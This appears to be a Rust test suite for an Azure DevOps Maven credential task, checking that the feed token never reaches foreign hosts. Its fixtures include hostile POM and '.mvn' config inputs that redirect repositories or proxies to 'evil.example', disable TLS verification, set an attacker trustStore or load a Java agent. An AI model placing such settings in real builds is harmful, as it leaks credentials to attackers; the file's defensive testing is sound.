//! Repositories that would have Maven send the token elsewhere, and ones like them that are served.
//!
//! Every foreign host asks for a credential here, whoever named it.

use std::io::{Read, Write};
use std::net::TcpListener;

use ado_entra_auth_emulator::agent::{Job, StepOutcome, TaskStep};
use ado_entra_auth_emulator::world::Challenge;
use ado_entra_auth_emulator::{Emulator, World};

use crate::modes::link;
use crate::support::{Snapshot, in_parallel, job, read, run, step, tool, warned, with_token, write, write_file};

/// A feed of ours.
pub const FEED: &str = "https://pkgs.dev.azure.com/contoso/_packaging/feed1/maven/v1";

/// A world in which every other host is after credentials.
pub fn greedy() -> Emulator {
    let mut world = World::sample_with_strangers(Challenge::Basic);
    for host in &mut world.foreign_hosts {
        host.challenge = Challenge::Basic;
    }
    Emulator::start(world).unwrap()
}

/// A project that fetches something when it is merely looked at.
pub fn project(artifact: &str, inner: &str) -> String {
    format!(
        "<project><modelVersion>4.0.0</modelVersion><groupId>com.example</groupId><artifactId>{artifact}</artifactId>\
         <version>1</version><packaging>pom</packaging>{inner}<dependencyManagement><dependencies><dependency>\
         <groupId>com.contoso</groupId><artifactId>hello</artifactId><version>1.0.0</version><type>pom</type><scope>import</scope>\
         </dependency></dependencies></dependencyManagement></project>"
    )
}

/// Its repositories.
pub fn repositories(all: &[(&str, &str)]) -> String {
    let one = |(id, url): &(&str, &str)| format!("<repository><id>{id}</id><url>{url}</url></repository>");
    format!("<repositories>{}</repositories>", all.iter().map(one).collect::<String>())
}

/// The requests that took the token to a host that is not Azure's.
fn strayed(emulator: &Emulator) -> Vec<String> {
    let requests = emulator.requests();
    let foreign = with_token(&requests)
        .into_iter()
        .filter(|request| !request.host.ends_with("azure.com") && !request.host.ends_with("visualstudio.com"));
    foreign.map(|request| format!("{} {}", request.host, request.path)).collect()
}

/// What becomes of a workspace.
pub enum Becomes {
    /// Nothing is written, and one warning has these words.
    Withheld(&'static [&'static str]),
    /// Nothing is written, and there is nothing to say: no feed is named.
    Nothing,
    /// It is served, without a warning.
    Served,
}

use Becomes::{Nothing, Served, Withheld};

/// A workspace, what is run in which folder of it, and what becomes of it.
pub struct Row<'r> {
    pub name: &'r str,
    pub files: Vec<(&'r str, String)>,
    pub run: (&'r str, &'r str),
    pub becomes: Becomes,
}

fn checked_step(emulator: &Emulator, job: &mut Job<'_>, row: &Row<'_>, step: &TaskStep) -> StepOutcome {
    for (path, text) in &row.files {
        write(job, path, text);
    }
    let home = Snapshot::below(job.home());
    let outcome = run(emulator, job, step);
    match row.becomes {
        Withheld(words) => {
            assert!(warned(&outcome, words), "{}: {:?}", row.name, outcome.warnings);
            assert!(outcome.warnings.len() <= 2, "{}: {:?}", row.name, outcome.warnings);
            home.assert_same(&Snapshot::below(job.home()), row.name);
        }
        Nothing | Served => assert!(outcome.warnings.is_empty(), "{}: {:?}", row.name, outcome.warnings),
    }
    outcome
}

/// Runs the step and then Maven in each, and sees where the token goes.
pub fn check(rows: &[Row<'_>], step: &TaskStep) {
    if tool("mvn").is_none() {
        return;
    }
    in_parallel(rows, |row| {
        let emulator = greedy();
        let mut job = job(&emulator);
        checked_step(&emulator, &mut job, row, step);
        let folder = job.sources().join(row.run.0);
        emulator.clear_requests();
        let outcome = job.run_script(row.run.1, &folder).unwrap();
        assert_eq!(strayed(&emulator), Vec::<String>::new(), "{}\n{}", row.name, outcome.raw);
        let reached = !with_token(&emulator.requests_to("pkgs.dev.azure.com")).is_empty();
        assert_eq!(reached, matches!(row.becomes, Served), "{}\n{}", row.name, outcome.raw);
        assert!(!emulator.requests().is_empty(), "{}: Maven asks nobody\n{}", row.name, outcome.raw);
    });
}

/// Has Maven look at a project.
pub const VALIDATE: &str = "mvn -B -U validate";

fn pom(inner: &str) -> Vec<(&'static str, String)> {
    vec![("pom.xml", project("app", inner))]
}

/// An address whose host is a reference.
fn by(reference: &str) -> String {
    format!("https://${{{reference}}}/contoso/_packaging/feed1/maven/v1")
}

fn row(name: &'static str, inner: impl AsRef<str>, becomes: Becomes) -> Row<'static> {
    Row { name, files: pom(inner.as_ref()), run: ("", VALIDATE), becomes }
}

/// A project below `base`.
pub fn child(inner: &str) -> String {
    let parent = "<parent><groupId>com.example</groupId><artifactId>base</artifactId><version>1</version></parent>";
    project("app", inner)
        .replace("<groupId>com.example</groupId><artifactId>app<", &format!("{parent}<artifactId>app<"))
        .replacen("<version>1</version><packaging>", "<packaging>", 1)
}

#[test]
fn references_go_where_maven_takes_them() {
    let rows = [
        row(
            "an element goes before a property",
            format!(
                "<inceptionYear>evil.example</inceptionYear><properties><project.inceptionYear>pkgs.dev.azure.com</project.inceptionYear>\
                 </properties>{}",
                repositories(&[("feed1", &by("project.inceptionYear"))])
            ),
            Withheld(&["pom.xml", "'project.inceptionYear'", "no token", "write out"]),
        ),
        row(
            "a property goes before a bare element",
            format!(
                "<name>pkgs.dev.azure.com</name><properties><name>evil.example</name></properties>{}",
                repositories(&[("feed1", &by("name"))])
            ),
            Nothing,
        ),
        row(
            "a property goes before the environment",
            format!(
                "<properties><env.BUILD_BUILDID>evil.example/x?</env.BUILD_BUILDID></properties>{}",
                repositories(&[(
                    "feed1",
                    "https://${env.BUILD_BUILDID}@pkgs.dev.azure.com/contoso/_packaging/feed1/maven/v1"
                )])
            ),
            Withheld(&["pom.xml", "no token"]),
        ),
        Row {
            name: "elements are inherited",
            files: vec![
                ("pom.xml", project("base", "<inceptionYear>evil.example</inceptionYear>")),
                (
                    "app/pom.xml",
                    child(&format!(
                        "<properties><inceptionYear>x</inceptionYear><project.inceptionYear>pkgs.dev.azure.com</project.inceptionYear>\
                         </properties>{}",
                        repositories(&[("feed1", &by("project.inceptionYear"))])
                    )),
                ),
            ],
            run: ("app", VALIDATE),
            becomes: Withheld(&["app/pom.xml", "'project.inceptionYear'", "no token"]),
        },
        Row {
            name: "an id by a name of Java's",
            files: vec![
                ("pom.xml", project("app", &repositories(&[("feed1", FEED)]))),
                ("other/pom.xml", project("other", &repositories(&[("${os.arch}", "https://evil.example/maven")]))),
            ],
            run: ("other", VALIDATE),
            becomes: Withheld(&["other/pom.xml", "no name gets a token", "'${os.arch}'", "write it out"]),
        },
    ];
    check(&rows, &step());
}

#[test]
fn references_that_projects_write_are_served() {
    let rows = [
        row(
            "a property goes before a bare element, the other way round",
            format!(
                "<name>evil.example</name><properties><name>pkgs.dev.azure.com</name></properties>{}",
                repositories(&[("feed1", &by("name"))])
            ),
            Served,
        ),
        // What projects write is served.
        row(
            "a property",
            format!(
                "<properties><feed.url>{FEED}</feed.url></properties>{}",
                repositories(&[("feed1", "${feed.url}")])
            ),
            Served,
        ),
        row("an id by coordinates", repositories(&[("${project.groupId}", FEED)]), Served),
        row(
            "a property of a name like Maven's",
            format!(
                "<properties><project.feed>contoso</project.feed><maven.feed>feed1</maven.feed></properties>{}",
                repositories(&[(
                    "feed1",
                    "https://pkgs.dev.azure.com/${project.feed}/_packaging/${maven.feed}/maven/v1"
                )])
            ),
            Served,
        ),
        Row {
            name: "a property of the parent",
            files: vec![
                ("pom.xml", project("base", &format!("<properties><feed.url>{FEED}</feed.url></properties>"))),
                ("app/pom.xml", child(&repositories(&[("feed1", "${feed.url}")]))),
            ],
            run: ("app", VALIDATE),
            becomes: Served,
        },
    ];
    check(&rows, &step());
}

#[test]
fn mavens_own_name_is_served_only_where_everything_replaces_it() {
    let central = repositories(&[("central", FEED)]);
    let plugins = format!(
        "<pluginRepositories><pluginRepository><id>central</id><url>{FEED}</url></pluginRepository></pluginRepositories>"
    );
    let both = format!("{central}{plugins}");
    let extension = "<build><extensions><extension><groupId>com.contoso</groupId><artifactId>demo</artifactId><version>1.0.0</version>\
        </extension></extensions></build>";
    let plain = |inner: &str| {
        let text = project("app", inner);
        let (before, rest) = text.split_once("<dependencyManagement>").unwrap();
        format!("{before}{}", rest.split_once("</dependencyManagement>").unwrap().1)
    };
    let rows = [
        Row {
            name: "plugins still come from Maven's own",
            files: vec![("pom.xml", plain(&format!("{central}{extension}")))],
            run: ("", VALIDATE),
            becomes: Withheld(&["'central'", "Maven itself", "pom.xml", "<pluginRepositories>", "no token"]),
        },
        Row {
            name: "another project still goes to Maven's own",
            files: vec![("a/pom.xml", project("a", &both)), ("b/pom.xml", project("b", ""))],
            run: ("b", VALIDATE),
            becomes: Withheld(&["'central'", "b/pom.xml", "use another id"]),
        },
        Row {
            name: "extensions come from Maven's own",
            files: vec![
                ("pom.xml", project("app", &both)),
                (
                    ".mvn/extensions.xml",
                    "<extensions><extension><groupId>com.contoso</groupId><artifactId>demo</artifactId><version>1.0.0</version>\
                     </extension></extensions>"
                        .to_owned(),
                ),
            ],
            run: ("", VALIDATE),
            becomes: Withheld(&["'central'", ".mvn/extensions.xml", "Use another id"]),
        },
        Row {
            name: "replaced for both",
            files: vec![("pom.xml", project("app", &both)), ("build.xml", "<project name=\"ant\"/>".to_owned())],
            run: ("", VALIDATE),
            becomes: Served,
        },
    ];
    check(&rows, &step());
}

#[test]
fn a_mirror_of_the_users_stands_before_mavens_own_name() {
    if tool("mvn").is_none() {
        return;
    }
    let emulator = greedy();
    let mut job = job(&emulator);
    let mirror = format!("<mirror><id>central</id><mirrorOf>*</mirrorOf><url>{FEED}</url></mirror>");
    write_file(&job.home().join(".m2/settings.xml"), format!("<settings><mirrors>{mirror}</mirrors></settings>"));
    write(&job, "pom.xml", project("app", ""));
    let outcome = run(&emulator, &mut job, &step().input("tools", "maven"));
    assert!(outcome.warnings.is_empty(), "{:?}", outcome.warnings);
    let sources = job.sources();
    job.run_script(VALIDATE, &sources).unwrap();
    assert!(!with_token(&emulator.requests_to("pkgs.dev.azure.com")).is_empty());
    assert_eq!(strayed(&emulator), Vec::<String>::new());
}

/// A credential that goes by a name reaches other checkouts too.
#[test]
fn a_name_is_looked_for_beside_the_working_directory() {
    let other = |url| project("b", &repositories(&[("internal", url)]));
    let row = |name, url, becomes| Row {
        name,
        files: vec![("a/pom.xml", project("a", &repositories(&[("internal", FEED)]))), ("b/pom.xml", other(url))],
        run: (if matches!(becomes, Served) { "a" } else { "b" }, VALIDATE),
        becomes,
    };
    let rows = [
        row(
            "another address",
            "https://registry.example.com/maven",
            Withheld(&["'internal'", "b/pom.xml", "no token"]),
        ),
        row("the same address", FEED, Served),
    ];
    check(&rows, &step().input("workingDirectory", "$(Build.SourcesDirectory)/a"));
}

#[test]
fn a_server_of_the_users_keeps_its_credential_in_other_projects() {
    if tool("mvn").is_none() {
        return;
    }
    let emulator = greedy();
    let mut job = job(&emulator);
    let file = job.home().join(".m2/settings.xml");
    let own = "<settings><servers><server><id>releases</id><username>me</username><password>own</password></server></servers></settings>";
    write_file(&file, own);
    write(&job, "pom.xml", project("app", &repositories(&[("releases", FEED)])));
    let elsewhere = job.root().join("elsewhere");
    write_file(
        &elsewhere.join("pom.xml"),
        project("tool", &repositories(&[("releases", "https://registry.example.com/maven")])),
    );
    let outcome = run(&emulator, &mut job, &step());
    assert!(
        warned(&outcome, &["'releases'", "of your own", "Remove that server", "another id"]),
        "{:?}",
        outcome.warnings
    );
    assert_eq!(read(&file), own);
    job.run_script(VALIDATE, &elsewhere).unwrap();
    assert_eq!(strayed(&emulator), Vec::<String>::new());
    let asked = emulator.requests_to("registry.example.com");
    let with_own = |authorization: &str| authorization.contains("Basic");
    assert!(asked.iter().any(|request| with_own(&format!("{:?}", request.authorization))), "{asked:?}");
}

#[test]
fn settings_that_lead_traffic_elsewhere_leave_maven_without_a_token() {
    let with = |name, path, text: &str, becomes| Row {
        name,
        files: vec![("pom.xml", project("app", &repositories(&[("feed1", FEED)]))), (path, text.to_owned())],
        run: ("", VALIDATE),
        becomes,
    };
    let withheld = [
        with(
            "a proxy, and no trust asked for",
            ".mvn/maven.config",
            "-B\n-Dmaven.wagon.http.ssl.insecure=true\n-Dhttps.proxyHost=evil.example",
            Withheld(&[".mvn/maven.config line 2", "maven.wagon.http.ssl.insecure", "no token", "remove"]),
        ),
        with(
            "a proxy, and trust of its own",
            ".mvn/jvm.config",
            "-Xmx256m -Dhttps.proxyHost=evil.example -Djavax.net.ssl.trustStore=evil.jks",
            Withheld(&[".mvn/jvm.config line 1", "https.proxyHost", "no token"]),
        ),
        with("arguments from a file", ".mvn/jvm.config", "@opts", Withheld(&[".mvn/jvm.config line 1", "@opts"])),
        with("code", ".mvn/jvm.config", "-javaagent:x.jar", Withheld(&[".mvn/jvm.config line 1", "-javaagent"])),
    ];
    for row in &withheld {
        let emulator = greedy();
        let mut job = job(&emulator);
        checked_step(&emulator, &mut job, row, &step());
    }
    let served = [
        with("a pool", ".mvn/maven.config", "-Dmaven.wagon.http.pool=false -T 1C", Served),
        with(
            "memory",
            ".mvn/jvm.config",
            "-Xmx256m --add-exports jdk.compiler/com.sun.tools.javac.api=ALL-UNNAMED",
            Served,
        ),
    ];
    check(&served, &step());
}

/// Maven 3.9 in a folder of the job's own, as behind a task that installs it.
pub fn maven39(job: &Job<'_>) -> Option<TaskStep> {
    let script = read(tool("mvn39")?);
    let program = std::path::PathBuf::from(script.split('\'').nth(1)?);
    let home = job.root().join("maven");
    link(program.parent()?.parent()?.canonicalize().unwrap(), &home).unwrap();
    Some(crate::support::step_with_env(&[&format!("PATH={}:/usr/local/bin:/usr/bin:/bin", home.join("bin").display())]))
}

/// Proxies of settings that `-s` names see a tunnel, and no credential.
#[test]
fn a_proxy_of_settings_sees_no_token() {
    let emulator = greedy();
    let mut job = job(&emulator);
    let Some(step) = maven39(&job) else { return };
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let seen = std::thread::spawn(move || {
        let mut seen = Vec::new();
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let mut bytes = [0; 4096];
            let read = stream.read(&mut bytes).unwrap_or(0);
            if bytes[..read].starts_with(b"end") {
                break;
            }
            seen.push(String::from_utf8_lossy(&bytes[..read]).into_owned());
            _ = stream.write_all(
                b"HTTP/1.1 407 Who\r\nProxy-Authenticate: Basic realm=\"x\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            );
        }
        seen
    });
    write(&job, "pom.xml", project("app", &repositories(&[("feed1", FEED)])));
    let proxy = format!(
        "<settings><proxies><proxy><active>true</active><protocol>https</protocol><host>127.0.0.1</host><port>{}</port></proxy>\
         <proxy><active>true</active><protocol>http</protocol><host>127.0.0.1</host><port>{0}</port></proxy></proxies></settings>",
        address.port()
    );
    write(&job, "ci/settings.xml", proxy);
    run(&emulator, &mut job, &step);
    let sources = job.sources();
    let script = format!("{}/maven/bin/mvn -B -U -s ci/settings.xml validate", job.root().display());
    let outcome = job.run_script(&script, &sources).unwrap();
    std::net::TcpStream::connect(address).unwrap().write_all(b"end").unwrap();
    let seen = seen.join().unwrap();
    assert!(seen.iter().any(|request| request.starts_with("CONNECT pkgs.dev.azure.com")), "{seen:?}\n{}", outcome.raw);
    assert!(
        seen.iter().all(|request| emulator.leaks_in(request.as_bytes()).is_empty() && !request.contains("Basic ")),
        "{seen:?}"
    );
    assert_eq!(strayed(&emulator), Vec::<String>::new());
}
